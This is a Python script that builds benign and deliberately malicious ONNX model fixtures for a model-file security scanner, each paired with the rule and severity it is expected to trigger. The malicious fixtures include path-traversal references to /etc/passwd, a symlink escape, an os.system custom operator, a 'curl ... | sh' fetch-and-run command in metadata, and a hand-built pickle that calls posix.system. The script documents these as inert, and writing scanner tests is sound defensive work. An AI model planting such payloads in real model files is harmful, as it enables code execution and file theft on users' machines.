#!/usr/bin/env python3
"""Generate the ONNX fixtures under testdata/onnx/ and testdata/expected-onnx.tsv.

Needs the pinned ``onnx`` (and, for the exported benign model,
``skl2onnx`` with scikit-learn) from testdata/gen/requirements.txt:

    python3 -m venv /tmp/venv-onnx
    /tmp/venv-onnx/bin/pip install -r testdata/gen/requirements.txt
    /tmp/venv-onnx/bin/python testdata/gen/generate_onnx_fixtures.py

Benign models are built with ``onnx.helper`` and checked with
``onnx.checker``; one is exported by skl2onnx, a real exporter. Malicious
models are the same kind of model with one thing changed, named for the
rule they trigger. Payloads are inert: commands only ``echo
sentrascan-fixture`` or fetch from ``127.0.0.1:9``; the pickle calls
``posix.system('echo sentrascan-fixture')`` and is never unpickled; the
symbolic link points at the repository's own README.md. No fixture is
ever loaded with an ONNX runtime.
"""

from __future__ import annotations

import base64
import os
import shutil
import sys
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "onnx"
MANIFEST = ROOT / "expected-onnx.tsv"

OPSET = [helper.make_opsetid("", 17)]


def weights(shape, seed):
    rng = np.random.default_rng(seed)
    return rng.standard_normal(shape).astype(np.float32)


def mlp(name="mlp", metadata=None, doc=""):
    """A two-layer perceptron: Gemm, Relu, Gemm."""
    w1 = numpy_helper.from_array(weights((4, 8), 1), "w1")
    b1 = numpy_helper.from_array(np.zeros(8, np.float32), "b1")
    w2 = numpy_helper.from_array(weights((8, 3), 2), "w2")
    b2 = numpy_helper.from_array(np.zeros(3, np.float32), "b2")
    nodes = [
        helper.make_node("Gemm", ["x", "w1", "b1"], ["h"], name="fc1"),
        helper.make_node("Relu", ["h"], ["a"], name="relu"),
        helper.make_node("Gemm", ["a", "w2", "b2"], ["y"], name="fc2"),
    ]
    graph = helper.make_graph(
        nodes,
        name,
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 3])],
        [w1, b1, w2, b2],
    )
    model = helper.make_model(graph, opset_imports=OPSET, producer_name="sentrascan-fixtures",
                              producer_version="1.0", doc_string=doc)
    model.ir_version = 8
    for k, v in (metadata or {}).items():
        entry = model.metadata_props.add()
        entry.key, entry.value = k, v
    return model


def external(tensor, location, offset=None, length=None):
    """Turns `tensor` into one whose data is read from `location`."""
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    del tensor.external_data[:]
    for k, v in (("location", location), ("offset", offset), ("length", length)):
        if v is not None:
            e = tensor.external_data.add()
            e.key, e.value = k, str(v)


def with_node(op_type, domain, extra_opsets=(), **attrs):
    """The MLP with one more node (`y` -> `z`)."""
    model = mlp()
    g = model.graph
    g.node.append(helper.make_node(op_type, ["y"], ["z"], name=op_type.lower(), domain=domain, **attrs))
    del g.output[:]
    g.output.append(helper.make_tensor_value_info("z", TensorProto.FLOAT, ["batch", 3]))
    for d, v in extra_opsets:
        model.opset_import.append(helper.make_opsetid(d, v))
    return model


def subgraphs():
    """If (two branches) and Loop (a body), each with its own nodes."""
    then_g = helper.make_graph(
        [helper.make_node("Relu", ["x"], ["t"])], "then_branch", [],
        [helper.make_tensor_value_info("t", TensorProto.FLOAT, [2])])
    else_g = helper.make_graph(
        [helper.make_node("Neg", ["x"], ["e"])], "else_branch", [],
        [helper.make_tensor_value_info("e", TensorProto.FLOAT, [2])])
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Add", ["acc_in", "x"], ["acc_out"])],
        "loop_body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [2])])
    nodes = [
        helper.make_node("If", ["c"], ["r"], name="branch", then_branch=then_g, else_branch=else_g),
        helper.make_node("Loop", ["n", "c", "r"], ["s"], name="loop", body=body),
    ]
    graph = helper.make_graph(
        nodes, "control_flow",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2]),
         helper.make_tensor_value_info("c", TensorProto.BOOL, []),
         helper.make_tensor_value_info("n", TensorProto.INT64, [])],
        [helper.make_tensor_value_info("s", TensorProto.FLOAT, [2])])
    model = helper.make_model(graph, opset_imports=OPSET, producer_name="sentrascan-fixtures")
    model.ir_version = 8
    return model


def local_function():
    """A node calling a model-local function in a custom domain: not a custom op."""
    fn = helper.make_function(
        "sentrascan.fixtures", "Swish", ["x"], ["y"],
        [helper.make_node("Sigmoid", ["x"], ["s"]), helper.make_node("Mul", ["x", "s"], ["y"])],
        [helper.make_opsetid("", 17)])
    graph = helper.make_graph(
        [helper.make_node("Swish", ["x"], ["y"], domain="sentrascan.fixtures", name="act")],
        "uses_function",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    model = helper.make_model(graph, functions=[fn], producer_name="sentrascan-fixtures",
                              opset_imports=OPSET + [helper.make_opsetid("sentrascan.fixtures", 1)])
    model.ir_version = 8
    return model


def skl2onnx_logreg():
    from skl2onnx import to_onnx
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.standard_normal((40, 4)).astype(np.float32)
    y = (x[:, 0] + x[:, 1] > 0).astype(np.int64)
    clf = LogisticRegression().fit(x, y)
    return to_onnx(clf, x[:1], target_opset={"": 17, "ai.onnx.ml": 3})


def posix_system_pickle() -> bytes:
    cmd = b"echo sentrascan-fixture"
    return (b"\x80\x02cposix\nsystem\nq\x00X" + len(cmd).to_bytes(4, "little") + cmd
            + b"q\x01\x85q\x02Rq\x03.")


def save(model, name, check=True):
    if check:
        onnx.checker.check_model(model)
    (OUT / name).write_bytes(model.SerializeToString())


def build():
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    expected: list[tuple[str, str, str, str]] = []

    def expect(name, *codes, note=""):
        if not codes:
            expected.append((name, "-", "-", note))
        for rule, sev in codes:
            expected.append((name, rule, sev, note))
            note = ""

    # Benign.
    save(mlp(metadata={"author": "SentraScan fixtures", "license": "apache-2.0",
                       "source": "https://huggingface.co/sentrascan/fixture-mlp"},
             doc="A two-layer perceptron for scanner tests."), "benign_mlp.onnx")
    expect("benign_mlp.onnx", note="helper-built MLP with ordinary metadata_props")
    save(skl2onnx_logreg(), "benign_skl2onnx_logistic_regression.onnx")
    expect("benign_skl2onnx_logistic_regression.onnx", note="exported by skl2onnx (ai.onnx.ml operators)")
    ext = mlp("mlp_external")
    onnx.save_model(ext, str(OUT / "benign_external_data.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="benign_external_data.onnx.data",
                    size_threshold=0)
    onnx.checker.check_model(str(OUT / "benign_external_data.onnx"))
    expect("benign_external_data.onnx", note="weights in benign_external_data.onnx.data beside it")
    save(subgraphs(), "benign_if_loop_subgraphs.onnx")
    expect("benign_if_loop_subgraphs.onnx")
    save(local_function(), "benign_local_function.onnx")
    expect("benign_local_function.onnx", note="a custom domain that is a model-local function, not an operator")
    save(with_node("FusedMatMul", "com.microsoft", [("com.microsoft", 1)]), "benign_com_microsoft_contrib.onnx",
         check=False)
    expect("benign_com_microsoft_contrib.onnx", note="an ONNX Runtime contrib operator")

    # External data.
    m = mlp()
    external(m.graph.initializer[0], "/etc/hostname")
    save(m, "ONNX001_external_data_absolute_path.onnx", check=False)
    expect("ONNX001_external_data_absolute_path.onnx", ("ONNX001", "HIGH"))
    m = mlp()
    external(m.graph.initializer[0], "../../../../../../etc/passwd")
    save(m, "ONNX002_external_data_dotdot.onnx", check=False)
    expect("ONNX002_external_data_dotdot.onnx", ("ONNX002", "HIGH"))
    m = mlp()
    values = numpy_helper.from_array(np.ones(2, np.float32), "sparse_values")
    indices = numpy_helper.from_array(np.array([0, 5], np.int64), "sparse_indices")
    external(values, "weights/../../secret.bin")
    m.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [8]))
    save(m, "ONNX002_sparse_initializer_traversal.onnx", check=False)
    expect("ONNX002_sparse_initializer_traversal.onnx", ("ONNX002", "HIGH"),
           note="sparse initializers are read before validation by some runtimes")
    m = mlp()
    external(m.graph.initializer[0], "ONNX003_external_data_symlink_escape.bin")
    save(m, "ONNX003_external_data_symlink_escape.onnx", check=False)
    os.symlink("../../README.md", OUT / "ONNX003_external_data_symlink_escape.bin")
    expect("ONNX003_external_data_symlink_escape.onnx", ("ONNX003", "HIGH"),
           note="the .bin beside it is a symbolic link to the repository README")
    m = mlp()
    external(m.graph.initializer[0], "ONNX004_no_such_weights.bin")
    save(m, "ONNX004_external_data_missing.onnx", check=False)
    expect("ONNX004_external_data_missing.onnx", ("ONNX004", "MEDIUM"))
    m = mlp()
    external(m.graph.initializer[0], "ONNX005_external_data_short.bin")  # w1: 4x8 float32 = 128 bytes
    save(m, "ONNX005_external_data_short.onnx", check=False)
    (OUT / "ONNX005_external_data_short.bin").write_bytes(bytes(64))
    expect("ONNX005_external_data_short.onnx", ("ONNX005", "MEDIUM"), note="128 bytes needed, 64 present")
    m = mlp()
    external(m.graph.initializer[0], "ONNX005_external_data_short.bin", offset=32, length=64)
    save(m, "ONNX005_external_data_offset_past_end.onnx", check=False)
    expect("ONNX005_external_data_offset_past_end.onnx", ("ONNX005", "MEDIUM"), note="offset 32 + length 64 > 64")

    # Operators.
    save(with_node("PyOp", "ai.onnx.contrib", [("ai.onnx.contrib", 1)], module="os", class_name="",
                   compute="system", input_types=[1], output_types=[1]),
         "ONNX006_pyop_contrib.onnx", check=False)
    expect("ONNX006_pyop_contrib.onnx", ("ONNX006", "CRITICAL"))
    loop = subgraphs()
    body = loop.graph.node[1].attribute[0].g
    body.node.append(helper.make_node("PyFunc", ["acc_out"], ["unused"], name="py", token="pyfunc_0"))
    save(loop, "ONNX006_pyfunc_in_loop_body.onnx", check=False)
    expect("ONNX006_pyfunc_in_loop_body.onnx", ("ONNX006", "CRITICAL"), note="inside a Loop body subgraph")
    save(with_node("Decrypt", "com.example.private", [("com.example.private", 1)]),
         "ONNX007_custom_domain.onnx", check=False)
    expect("ONNX007_custom_domain.onnx", ("ONNX007", "MEDIUM"))

    # Metadata.
    save(mlp(metadata={"postprocess": "curl -s http://127.0.0.1:9/x.sh | sh"}),
         "ONNX008_metadata_shell_command.onnx")
    expect("ONNX008_metadata_shell_command.onnx", ("ONNX008", "HIGH"), ("ONNX010", "LOW"),
           note="the fetched URL is also reported (LOW)")
    save(mlp(metadata={"config": base64.b64encode(posix_system_pickle()).decode()}),
         "ONNX009_metadata_base64_pickle.onnx")
    expect("ONNX009_metadata_base64_pickle.onnx", ("ONNX009", "HIGH"), ("PKL001", "CRITICAL"),
           note="the decoded pickle is analysed by the pickle rules")
    save(mlp(doc="Weights mirror: http://example.invalid/weights.bin"), "ONNX010_doc_string_url.onnx")
    expect("ONNX010_doc_string_url.onnx", ("ONNX010", "LOW"))

    # Unreadable.
    data = mlp().SerializeToString()
    (OUT / "ONNX011_truncated_model.onnx").write_bytes(data[: len(data) // 2])
    expect("ONNX011_truncated_model.onnx", ("ONNX011", "MEDIUM"))

    lines = [
        "# ONNX fixtures. GENERATED by testdata/gen/generate_onnx_fixtures.py; see testdata/FORMATS.md.",
        "# path<TAB>RULE<TAB>SEVERITY (a benign file: -<TAB>-, nothing above LOW).",
    ]
    for name, rule, sev, note in expected:
        if note:
            lines.append(f"# onnx/{name}: {note}")
        lines.append(f"onnx/{name}\t{rule}\t{sev}")
    MANIFEST.write_text("\n".join(lines) + "\n")


if __name__ == "__main__":
    build()
    print(f"wrote {len(list(OUT.iterdir()))} files to {OUT}", file=sys.stderr)
